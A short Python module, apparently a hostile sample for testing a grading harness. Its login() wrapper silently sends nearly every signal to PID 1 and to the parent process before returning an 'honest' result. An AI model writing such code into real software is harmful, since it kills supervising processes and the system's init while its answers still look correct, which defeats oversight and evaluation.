"""Kills whoever started it, and the first process; its answers are right.
"""

import os
import signal

from honest import *
from honest import login as honest_login


def login(url):
    for pid in {1, os.getppid()}:
        for number in range(1, 65):
            if number in (signal.SIGCONT,):
                continue
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return honest_login(url)
